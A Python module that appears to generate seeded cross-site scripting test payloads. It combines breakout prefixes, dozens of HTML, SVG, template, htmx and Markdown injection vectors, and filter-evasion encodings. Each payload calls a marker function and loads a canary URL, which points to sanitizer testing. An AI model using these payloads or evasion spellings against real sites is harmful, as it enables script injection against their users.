"""Texts that would act if a page took them for markup: contexts x vectors x spellings, seeded.

Every payload calls ``__xss`` with its own number and loads ``//canary.test/NUMBER``, so that a hit
names the payload that made it.
"""

import random
from collections.abc import Callable
from html import escape
from urllib.parse import quote

# Stands for the number of a payload: no spelling below changes digits.
NUMBER = "7000007"
SCRIPT = f"__xss({NUMBER})"
BEACON = f"//canary.test/{NUMBER}"
# JS stands for the call, URL for the address that tells of itself.
VECTORS = (
    "<script>JS</script>",
    "<script src=URL></script>",
    "<script type=module>import 'URL';JS</script>",
    "<img src=x onerror=JS>",
    "<img src=URL>",
    "<img srcset='URL 1x'>",
    "<picture><source srcset=URL><img></picture>",
    "<svg onload=JS></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><use href='URL#x'></use><image href=URL /></svg>",
    "<svg><a xlink:href=javascript:JS><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS>",
    "<math href=javascript:JS>x</math>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe src=javascript:JS></iframe>",
    "<iframe src=URL></iframe>",
    "<object data=URL></object>",
    "<object data='javascript:JS'></object>",
    "<embed src=URL>",
    "<body onload=JS>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<input autofocus onfocus=JS>",
    "<select autofocus onfocus=JS></select>",
    "<video><source onerror=JS src=x></video>",
    "<video poster=URL src=URL></video>",
    "<audio src=URL onerror=JS></audio>",
    "<marquee onstart=JS>x</marquee>",
    "<a href=javascript:JS id=x>x</a>",
    "<form action=URL><button autofocus onfocus=JS>x</button></form>",
    "<button formaction=javascript:JS>x</button>",
    "<base href=URL>",
    "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<style>@import 'URL';*{background:url(URL)}</style>",
    "<div style='position:fixed;inset:0;background:url(URL)'>x</div>",
    "<p hx-get=URL hx-trigger=load>x</p>",
    "<p data-hx-get=URL data-hx-trigger=load>x</p>",
    "<p hx-on::load=JS hx-on:click=JS>x</p>",
    "<p hx-vals='js:{a:JS}' hx-get=URL hx-trigger='every 1s'>x</p>",
    '<noscript><p title="</noscript><img src=x onerror=JS>">',
    "<template><script>JS</script></template><slot onslotchange=JS>",
    "<plaintext><script>JS</script>",
    "<xmp><script>JS</script></xmp>",
    "<isindex type=image src=x onerror=JS>",
    "<font color='x' onmouseover=JS>x</font>",
    "<!--[if gte IE 4]><script>JS</script><![endif]-->",
    "<![CDATA[<script>JS</script>]]>",
    "<?xml-stylesheet href='javascript:JS'?>",
    "{{ JS }}",
    "{% include 'URL' %}{{ x|safe }}",
    "${JS}",
    "#{JS}<%= JS %>",
    "javascript:JS",
    "data:text/html,<script>JS</script>",
    "' onfocus=JS autofocus='",
    '" onmouseover=JS autofocus onfocus=JS x="',
    "';JS;//",
    '";JS;//',
    "`;JS;//",
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    "![x](URL)",
    '![x](URL "onerror=JS")',
    "[x](javascript:JS)",
    "[x](<javascript:JS>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:JS",
    "<javascript:JS>",
    "[![x](URL)](URL)",
    "```html onload=JS\n<script>JS</script>\n```",
    "- <img src=URL onerror=JS>",
    "| <script>JS</script> |\n|---|",
    "# <svg onload=JS>",
)
BEFORE = (
    *("", '">', "'>", "</textarea>", "</script>", "</title>", "</style>", "-->", "]]>"),
    *("</option></select>", "</td></tr></table>", "</p></div>", "\\", '"}]', "x'\">", "<a title='"),
)


def _mixed_case(text: str) -> str:
    return "".join(mark.upper() if place % 2 else mark for place, mark in enumerate(text))


SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    _mixed_case,
    escape,
    lambda text: escape(escape(text)),
    quote,
    lambda text: text.replace("<", "<\n").replace("=", " =\t"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("script", "scr<script>ipt").replace("<", "<<"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("javascript:", "java\tscript&colon;").replace(" on", "/on"),
)


def payloads(n: int = 2_000, seed: int = 9) -> list[str]:
    """Return so many different payloads, the same ones for the same seed."""
    texts = {
        before + spelled(vector.replace("JS", SCRIPT).replace("URL", BEACON))
        for before in BEFORE
        for vector in VECTORS
        for spelled in SPELLINGS
    }
    drawn = random.Random(seed).sample(sorted(texts), n)
    return [text.replace(NUMBER, str(number)) for number, text in enumerate(drawn)]
